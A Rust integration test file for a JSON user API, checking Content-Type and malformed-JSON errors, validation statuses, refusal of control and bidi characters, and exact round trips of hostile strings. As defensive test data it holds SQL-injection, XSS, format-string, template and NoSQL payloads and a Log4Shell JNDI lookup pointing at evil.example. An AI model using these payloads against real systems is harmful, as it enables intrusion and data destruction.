//! Request bodies of the JSON API: Content-Type must be JSON (415), malformed JSON is 400 and
//! never a 500, fields are validated (422, 409) and nothing changes on a refusal, hostile
//! strings (injection, Unicode edge cases) are stored and returned byte for byte, and names that
//! are not text (only white space, control characters, bidi overrides) are refused.

mod common;

use std::time::Duration;

use common::*;
use serde_json::{json, Value};

#[test]
fn body_validation_statuses() {
    let srv = Server::start(&[]);
    let c = srv.admin_cookie();
    // Content-Type and malformed JSON: wrong_content_type_gets_415, malformed_json_gets_400_and_never_500.
    let bad_bodies = [
        json!({"last_name":"L","email":"a1@example.com"}),
        json!({"first_name":"F","email":"a2@example.com"}),
        json!({"first_name":"F","last_name":"L"}),
        json!({"first_name":"","last_name":"L","email":"a3@example.com"}),
        json!({"first_name":"F","last_name":"","email":"a4@example.com"}),
        json!({"first_name":"x".repeat(201),"last_name":"L","email":"a5@example.com"}),
        json!({"first_name":"F","last_name":"é".repeat(201),"email":"a6@example.com"}),
        json!({"first_name":"F","last_name":"L","email":"not-an-email"}),
        json!({"first_name":"F","last_name":"L","email":""}),
        json!({"first_name":5,"last_name":"L","email":"a7@example.com"}),
        json!({"first_name":"F","last_name":"L","email":"a8@example.com","questions_total":"ten"}),
        json!([1, 2, 3]),
    ];
    for b in &bad_bodies {
        srv.json("POST", "/api/users", Some(&c), Some(b))
            .assert_error(422, &format!("POST /api/users {b}"));
    }
    assert!(srv.users().is_empty(), "nothing stored by invalid requests");

    // Names are 1–200 characters (not bytes) and stored exactly as sent.
    let long = "é".repeat(200);
    let exact = " Ada  \"quoted\" <b>&amp;</b> ";
    let body = json!({"first_name": long, "last_name": exact, "email":"ok@example.com"});
    let r = srv.json("POST", "/api/users", Some(&c), Some(&body));
    assert_eq!(r.status, 201, "200-character name: {}", r.text());
    let u = r.json();
    assert_eq!(u["first_name"], json!(long));
    assert_eq!(u["last_name"], json!(exact));
    assert_eq!(srv.user(id_of(&u))["last_name"], json!(exact));

    // A second user, for the duplicate-email PATCH below.
    let b2 = json!({"first_name":"A","last_name":"B","email":"cs@example.com"});
    let r = srv.json("POST", "/api/users", Some(&c), Some(&b2));
    assert_eq!(r.status, 201, "second user: {}", r.text());

    // Duplicate email.
    srv.json(
        "POST",
        "/api/users",
        Some(&c),
        Some(&json!({"first_name":"X","last_name":"Y","email":"ok@example.com"})),
    )
    .assert_error(409, "duplicate email");
    // PATCH: invalid fields 422, duplicate email 409, unchanged afterwards.
    let id = id_of(&u);
    srv.patch_user(id, &json!({"first_name": ""}))
        .assert_error(422, "PATCH empty first_name");
    srv.patch_user(id, &json!({"email": "nope"}))
        .assert_error(422, "PATCH bad email");
    srv.patch_user(id, &json!({"email": "cs@example.com"}))
        .assert_error(409, "PATCH duplicate email");
    let r = srv.request(
        "PATCH",
        &format!("/api/users/{id}"),
        &[("Cookie", &c), ("Content-Type", "text/plain")],
        Some(b"{\"first_name\":\"Z\"}"),
    );
    r.assert_error(415, "PATCH text/plain");
    assert_eq!(srv.user(id), u, "user unchanged by failed PATCHes");
}

#[test]
fn empty_body_needs_no_content_type() {
    let srv = Server::start(&[]);
    let c = srv.admin_cookie();
    let u = srv.create_user("Ada", "Lovelace", None);
    let r = srv.request(
        "POST",
        &format!("/api/users/{}/invite", id_of(&u)),
        &[("Cookie", &c)],
        None,
    );
    assert_eq!(r.status, 200, "invite with no body: {}", r.text());
    let r = srv.request(
        "POST",
        &format!("/api/users/{}/invite", id_of(&u)),
        &[("Cookie", &c), ("Content-Length", "0")],
        None,
    );
    assert_eq!(r.status, 200, "invite with Content-Length: 0: {}", r.text());
}

#[test]
fn wrong_content_type_gets_415() {
    let srv = Server::start(&[]);
    let live = LiveAdmin::start(&srv);
    let cookie = srv.admin_cookie();
    let body =
        json!({"first_name":"Type","last_name":"Wrong","email":"ct@example.com"}).to_string();
    for ct in [
        Some("text/plain"),
        Some("application/x-www-form-urlencoded"),
        Some("multipart/form-data; boundary=xyz"),
        Some("application/jsonx"),
        Some("application/xml"),
        Some(""),
        None,
    ] {
        let mut h = vec![("Cookie", cookie.as_str())];
        if let Some(ct) = ct {
            h.push(("Content-Type", ct));
        }
        let r = srv.request("POST", "/api/users", &h, Some(body.as_bytes()));
        r.assert_error(415, &format!("Content-Type {ct:?}"));
    }
    // Parameters on a JSON type are fine.
    let r = srv.request(
        "POST",
        "/api/users",
        &[
            ("Cookie", &cookie),
            ("Content-Type", "Application/JSON; charset=utf-8"),
        ],
        Some(body.as_bytes()),
    );
    assert_eq!(
        r.status,
        201,
        "application/json with a charset: {}",
        r.text()
    );
    let n = srv
        .users()
        .iter()
        .filter(|u| u["email"] == "ct@example.com")
        .count();
    assert_eq!(n, 1, "exactly one user created");
    let r = srv.request(
        "POST",
        "/api/admin/login",
        &[("Content-Type", "text/plain")],
        Some(b"{}"),
    );
    r.assert_error(415, "login text/plain");
    assert_serving(&srv, &live, "wrong Content-Type");
}

#[test]
fn malformed_json_gets_400_and_never_500() {
    let srv = Server::start(&[]);
    let live = LiveAdmin::start(&srv);
    let cookie = srv.admin_cookie();
    let host = srv.addr.to_string();
    let post = |body: &[u8]| -> Resp {
        srv.request(
            "POST",
            "/api/users",
            &[("Cookie", &cookie), ("Content-Type", "application/json")],
            Some(body),
        )
    };
    let malformed: Vec<(&str, Vec<u8>)> = vec![
        ("open brace", b"{".to_vec()),
        ("plain text", b"not json".to_vec()),
        ("truncated object", b"{\"first_name\": ".to_vec()),
        ("trailing garbage", b"{\"first_name\":\"a\"}x".to_vec()),
        ("single quotes", b"{'first_name':'a'}".to_vec()),
        ("trailing comma", b"{\"first_name\":\"a\",}".to_vec()),
        ("invalid UTF-8", b"{\"first_name\":\"\xff\xfe\"}".to_vec()),
        (
            "lone surrogate escape",
            br#"{"first_name":"\ud800","last_name":"x","email":"s@example.com"}"#.to_vec(),
        ),
        ("bad escape", br#"{"first_name":"\q"}"#.to_vec()),
        ("NaN", br#"{"questions_total":NaN}"#.to_vec()),
        (
            "raw control char in string",
            b"{\"first_name\":\"a\x01b\"}".to_vec(),
        ),
        ("60k nested arrays", "[".repeat(60_000).into_bytes()),
        ("20k nested objects", "{\"a\":".repeat(12_000).into_bytes()),
        ("only whitespace", b"   \r\n ".to_vec()),
        ("UTF-8 BOM then JSON", b"\xef\xbb\xbf{}".to_vec()),
    ];
    for (what, body) in &malformed {
        let r = post(body);
        assert!(
            r.status == 400 || (r.status == 422 && *what == "only whitespace"),
            "{what}: status {} {}",
            r.status,
            r.text()
        );
        r.assert_error(r.status, what);
    }
    // Well-formed but not an object: 400 or 422.
    for body in ["[]", "\"str\"", "null", "42", "true", "[{}]"] {
        let r = post(body.as_bytes());
        assert!(
            r.status == 400 || r.status == 422,
            "{body}: {} {}",
            r.status,
            r.text()
        );
        r.assert_error(r.status, body);
    }
    // Deep nesting inside a valid object, and a huge number.
    let deep = format!(
        "{{\"first_name\":{}1{},\"last_name\":\"x\",\"email\":\"d@example.com\"}}",
        "[".repeat(30_000),
        "]".repeat(30_000)
    );
    let r = post(deep.as_bytes());
    assert!(
        r.status == 400 || r.status == 422,
        "deep value: {}",
        r.status
    );
    let r = post(format!("{{\"questions_total\":1{}}}", "0".repeat(5000)).as_bytes());
    assert!(
        r.status == 400 || r.status == 422,
        "huge number: {}",
        r.status
    );
    // Same on PATCH and session routes.
    let u = srv.create_user("J", "Son", None);
    let r = srv.request(
        "PATCH",
        &format!("/api/users/{}", id_of(&u)),
        &[("Cookie", &cookie), ("Content-Type", "application/json")],
        Some(b"{\"last_name\":"),
    );
    r.assert_error(400, "PATCH malformed");
    let r = srv.request(
        "POST",
        "/api/session/activate",
        &[("Content-Type", "application/json")],
        Some(b"{\"token\":"),
    );
    r.assert_error(400, "activate malformed");
    let r = srv.request(
        "POST",
        "/api/admin/login",
        &[("Content-Type", "application/json")],
        Some(b"[[[[[[[["),
    );
    r.assert_error(400, "login malformed");
    let r = srv.request(
        "POST",
        "/api/admin/login",
        &[("Content-Type", "application/json")],
        Some(b"{"),
    );
    r.assert_error(400, "login malformed JSON");
    // A body shorter than its Content-Length: the request never completes (408 later, not 400):
    // just check the server is not blocked while it waits.
    let mut c = srv.http();
    c.write_raw(
        format!("POST /api/users HTTP/1.1\r\nHost: {host}\r\nCookie: {cookie}\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{{\"a\"").as_bytes(),
    )
    .unwrap();
    assert!(timed_healthz(&srv) < Duration::from_secs(1));
    drop(c);
    assert_serving(&srv, &live, "malformed JSON");
}

/// Issue 12, item 13: names could be only spaces, or hold NUL, other control characters and
/// bidi overrides (U+202E), which spoof text in the dashboard. 422, and nothing changes.
#[test]
fn names_that_are_not_text_are_refused() {
    let srv = Server::start(&[]);
    let live = LiveAdmin::start(&srv);
    let cookie = srv.admin_cookie();
    let target = srv.create_user("Patch", "Target", None);
    let tid = id_of(&target);
    let refused = [
        " ",
        "   ",
        "\t\n",
        "\u{3000}",
        "a\u{0}b",
        "\u{0}",
        "tab\there",
        "line\nbreak",
        "\u{7f}\u{1b}[31mred",
        "next\u{85}line",
        "csi\u{9b}31m",
        "\u{202E}evil\u{202C}.exe",
        "a\u{202A}b",
        "a\u{202B}b",
        "a\u{202D}b",
        "\u{2066}isolate\u{2069}",
        "a\u{2067}b",
        "a\u{2068}b",
    ];
    for name in refused {
        let body = json!({"first_name": name, "last_name": "L", "email": srv.unique_email()});
        srv.json("POST", "/api/users", Some(&cookie), Some(&body))
            .assert_error(422, &format!("first_name {name:?}"));
        srv.patch_user(tid, &json!({ "last_name": name }))
            .assert_error(422, &format!("PATCH last_name {name:?}"));
    }
    assert_eq!(srv.users().len(), 1, "nothing was created");
    assert_eq!(srv.user(tid)["last_name"], "Target", "nothing was changed");
    // Text that only looks unusual is fine: marks, joiners, right-to-left scripts, spaces
    // around a name.
    for name in [
        " Ada ",
        "\u{200F}שלום\u{200E}",
        "👩‍👩‍👧",
        "e\u{301}",
        "\u{FEFF}bom",
    ] {
        let r = srv.patch_user(tid, &json!({ "first_name": name }));
        assert_eq!(r.status, 200, "{name:?}: {}", r.text());
        assert_eq!(r.json()["first_name"], name, "stored exactly");
    }
    assert_serving(&srv, &live, "names that are not text");
}

#[test]
fn injection_and_unicode_strings_round_trip_byte_for_byte() {
    let srv = Server::start(&[]);
    let live = LiveAdmin::start(&srv);
    let cookie = srv.admin_cookie();
    // Must be accepted (1–200 characters) and returned exactly.
    let names: Vec<String> = vec![
        "'; DROP TABLE users; --".into(),
        "Robert'); DROP TABLE users;--".into(),
        "1' OR '1'='1".into(),
        "\"".into(),
        "\\".into(),
        "\\\"\\'".into(),
        "😀👩‍👩‍👧‍👦🏳️‍🌈".into(),
        "\u{200F}שלום\u{200E} עולם".into(),
        "مرحبا".into(),
        "e\u{301}\u{302}\u{303}\u{304}".into(),
        "Z\u{334}\u{321}\u{31b}a\u{336}l\u{337}g\u{338}o".into(),
        "<script>alert(1)</script>".into(),
        "%s%n%x%p".into(),
        "${jndi:ldap://evil.example/a}".into(),
        "{{7*7}}".into(),
        "\u{FEFF}bom".into(),
        "NULL".into(),
        "null".into(),
        "\u{10FFFF}\u{FFFD}".into(),
        "日本語の名前".into(),
        "a".repeat(200),
        "é".repeat(200),
        "😀".repeat(200),
    ];
    let mut created = Vec::new();
    for (i, name) in names.iter().enumerate() {
        let email = format!("uni{i}.{}", srv.unique_email());
        let body = json!({"first_name": name, "last_name": name, "email": email});
        let r = srv.json("POST", "/api/users", Some(&cookie), Some(&body));
        assert_ne!(r.status, 500, "name {name:?}: 500 {}", r.text());
        assert_eq!(
            r.status,
            201,
            "name {name:?} ({} chars): {}",
            name.chars().count(),
            r.text()
        );
        let u = r.json();
        assert_eq!(
            u["first_name"].as_str(),
            Some(name.as_str()),
            "POST answer first_name"
        );
        assert_eq!(
            u["last_name"].as_str(),
            Some(name.as_str()),
            "POST answer last_name"
        );
        let ev = live.wait_for("user_added", WAIT, |v| {
            v["type"] == "user_added" && v["data"]["id"] == u["id"]
        });
        assert_eq!(
            ev["data"]["first_name"].as_str(),
            Some(name.as_str()),
            "stream first_name"
        );
        created.push((id_of(&u), name.clone(), email));
    }
    // Every field of PATCH as well.
    let target = srv.create_user("Patch", "Target", None);
    let tid = id_of(&target);
    for name in &names {
        let r = srv.patch_user(tid, &json!({"first_name": name, "last_name": name}));
        assert_ne!(r.status, 500, "PATCH {name:?}");
        assert_eq!(r.status, 200, "PATCH {name:?}: {}", r.text());
        assert_eq!(r.json()["last_name"].as_str(), Some(name.as_str()));
    }
    // Too long, empty, wrong types: 422, never 500.
    let bad: Vec<(&str, Value)> = vec![
        ("201 ASCII chars", json!("a".repeat(201))),
        ("201 two-byte chars", json!("é".repeat(201))),
        ("201 emoji", json!("😀".repeat(201))),
        ("empty", json!("")),
        ("number", json!(123)),
        ("null", Value::Null),
        ("array", json!(["a"])),
        ("object", json!({"$ne": null})),
        ("bool", json!(true)),
    ];
    for (what, v) in &bad {
        let body = json!({"first_name": v, "last_name": "X", "email": srv.unique_email()});
        let r = srv.json("POST", "/api/users", Some(&cookie), Some(&body));
        r.assert_error(422, &format!("first_name {what}"));
        let r = srv.patch_user(tid, &json!({ "last_name": v }));
        r.assert_error(422, &format!("PATCH last_name {what}"));
    }
    // Hostile emails: stored exactly or refused with 422; never a 500.
    for email in [
        "'; DROP TABLE users; --@example.com",
        "o'hara@example.com",
        "\"quoted\"@example.com",
        "a\u{0}b@example.com",
        "ü@exämple.com",
        "x@example.com'--",
        "@example.com",
        "a@",
        "a@@example.com",
        "a@b@example.com",
        "a@example..com",
        &format!("{}@example.com", "l".repeat(300)),
    ] {
        let body = json!({"first_name": "E", "last_name": "Mail", "email": email});
        let r = srv.json("POST", "/api/users", Some(&cookie), Some(&body));
        match r.status {
            201 => assert_eq!(r.json()["email"].as_str(), Some(email), "email round trip"),
            422 | 409 => r.assert_error(r.status, &format!("email {email:?}")),
            s => panic!("email {email:?}: status {s}: {}", r.text()),
        }
        eprintln!("email {email:?}: {}", r.status);
    }
    // Hostile numbers.
    for (what, v) in [
        ("negative", json!(-1)),
        ("zero", json!(0)),
        ("huge", json!(u64::MAX)),
        ("float", json!(2.5)),
        ("string", json!("10")),
        ("1e300", json!(1e300)),
    ] {
        let body = json!({"first_name":"N","last_name":"N","email": srv.unique_email(),"questions_total": v});
        let r = srv.json("POST", "/api/users", Some(&cookie), Some(&body));
        r.assert_error(422, &format!("questions_total {what}"));
        let r = srv.patch_user(tid, &json!({ "questions_answered": v }));
        assert!(
            r.status == 422 || (r.status == 200 && what == "zero"),
            "PATCH questions_answered {what}: {} {}",
            r.status,
            r.text()
        );
    }
    // Everything reads back byte for byte, and the table is still there.
    let users = srv.users();
    for (id, name, email) in &created {
        let u = users
            .iter()
            .find(|u| u["id"].as_i64() == Some(*id))
            .unwrap_or_else(|| panic!("user {id} ({name:?}) missing from GET /api/users"));
        assert_eq!(
            u["first_name"].as_str(),
            Some(name.as_str()),
            "GET first_name"
        );
        assert_eq!(
            u["last_name"].as_str(),
            Some(name.as_str()),
            "GET last_name"
        );
        assert_eq!(u["email"].as_str(), Some(email.as_str()), "GET email");
        assert_user_shape(u);
    }
    assert!(
        users.len() > created.len(),
        "GET /api/users after the injections"
    );
    assert_serving(&srv, &live, "injection strings");
}
